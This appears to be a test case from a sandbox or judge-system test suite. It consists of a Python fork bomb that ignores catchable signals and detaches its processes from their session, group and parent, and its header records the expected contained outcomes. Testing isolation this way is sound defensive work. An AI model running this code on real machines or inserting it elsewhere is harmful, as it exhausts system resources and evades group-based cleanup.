# Group: processes
# Tries: a fork bomb whose processes leave their session, their group and their parents, and ignore signals.
# Idea: supervisors that kill the group or the session of a job (isolate without control groups, many judges) lose them.
# Outcome: they stay in the sandbox's group and number, and end with the deadline or with the sandbox.
# Sandbox: own
# Deadline: 2
# Ends: DEADLINE, OUT_OF_MEMORY, SIGNALED
# Next: may be refused
import os
import signal

from attack import held

held("it begins")
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
signal.signal(signal.SIGCHLD, signal.SIG_DFL)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            os.closerange(0, 100)
    except OSError:
        pass
